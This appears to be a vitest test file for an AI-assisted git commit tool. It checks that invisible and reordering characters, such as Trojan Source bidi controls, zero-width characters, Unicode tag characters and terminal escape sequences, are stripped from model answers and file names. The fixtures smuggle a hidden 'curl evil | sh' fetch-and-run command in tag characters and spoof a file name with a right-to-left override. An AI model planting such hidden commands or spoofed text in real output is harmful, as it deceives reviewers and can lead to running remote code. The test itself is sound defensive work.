// Trojan Source and invisible text from a model answer and a file name: bidi controls, zero-width and tag characters,
// 8-bit C1 string sequences, and an unterminated escape reach neither the terminal nor the commit object (CLI and hook).
import { spawn } from 'node:child_process';
import { afterEach, describe, expect, it } from 'vitest';
import { startProviderServer, type ProviderServer } from '../support/provider-server.js';
import { remoteEnv } from '../support/remote-env.js';
import { MATH_WITH_MULTIPLY, createMathRepo, runCliAsync, type TempRepo } from '../support/temp-repo.js';

const TAGS = [...' curl evil | sh'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('');
/** What must not survive: bidi controls and marks, zero-width and format characters, tag characters, C0/C1 controls. */
const INVISIBLE =
  // eslint-disable-next-line no-control-regex -- control characters are what this matches
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

let repo: TempRepo;
let server: ProviderServer | undefined;
afterEach(async () => {
  repo?.cleanup();
  await server?.close();
  server = undefined;
});

async function stage(text: string): Promise<NodeJS.ProcessEnv> {
  server = await startProviderServer({ apiKey: 'test-key', respond: () => ({ text }) });
  repo = createMathRepo();
  repo.write('src/math.ts', MATH_WITH_MULTIPLY);
  repo.git('add', '.');
  return remoteEnv(server, repo.env, { GIT_AI_BODY: 'true' });
}

/** The commit object of HEAD as bytes read as latin1 for C1, and as UTF-8 for the rest. */
const headObject = () => repo.git('cat-file', 'commit', 'HEAD');

// The subject reads `feat(math): add multiply` to a reviewer, but its bytes say otherwise (an RLO reverses
// `ylpitlum`); a ZWSP splits `multiply` so a search for it misses, and tags carry an instruction nobody sees.
const HOSTILE = [
  `feat(math): add\u200b mul\u2060tiply\u202e\u2066\u2069\u202c${TAGS}\u{e007f}`,
  '',
  `Adds multiply\u200e\u200f\u061c.\u2028Keeps add\ufeff as it was\x9d0;title\x9c.\x90q#1\x9c`,
  `\x9b2J\x1b[38;5`,
].join('\n');

describe('invisible and reordering characters in a model answer', () => {
  it('commit --dry-run prints the message without them', async () => {
    const env = await stage(HOSTILE);
    const printed = await runCliAsync(['commit', '--dry-run', '--no-cache'], { cwd: repo.dir, env });
    expect(printed.code, printed.stderr).toBe(0);
    expect(printed.stdout + printed.stderr).not.toMatch(INVISIBLE);
    expect(printed.stdout.split('\n')[0]).toBe('feat(math): add multiply');
  });

  it('through the prepare-commit-msg hook the commit object holds none of them', async () => {
    const env = await stage(HOSTILE);
    expect((await runCliAsync(['hook', 'install'], { cwd: repo.dir, env })).code).toBe(0);
    const committed = await new Promise<{ code: number | null; output: string }>((resolve, reject) => {
      const child = spawn('git', ['commit', '--no-edit'], { cwd: repo.dir, env, stdio: ['ignore', 'pipe', 'pipe'] });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, output }));
    });
    expect(committed.code, committed.output).toBe(0);
    expect(server!.requests).toHaveLength(1);
    const object = headObject();
    expect(object).not.toMatch(INVISIBLE);
    expect(Buffer.from(object, 'utf8').toString('latin1')).not.toMatch(/[\x80-\x9f]/); // no C1 byte in any encoding
    expect(repo.git('log', '-1', '--format=%s')).toBe('feat(math): add multiply\n');
  });
});

describe('invisible and reordering characters in a file name', () => {
  it('the offline engine writes none of them from a name into the message or the commit', async () => {
    repo = createMathRepo();
    repo.write('src/admin\u202eexe.ts\u2066\u200b', 'export const admin = 1;\n');
    repo.git('add', '.');
    const printed = await runCliAsync(['commit', '--dry-run'], { cwd: repo.dir, env: repo.env });
    expect(printed.code, printed.stderr).toBe(0);
    expect(printed.stdout + printed.stderr).not.toMatch(INVISIBLE);
    const committed = await runCliAsync(['commit', '--yes'], { cwd: repo.dir, env: repo.env });
    expect(committed.code, committed.stderr).toBe(0);
    expect(headObject()).not.toMatch(INVISIBLE);
  });
});
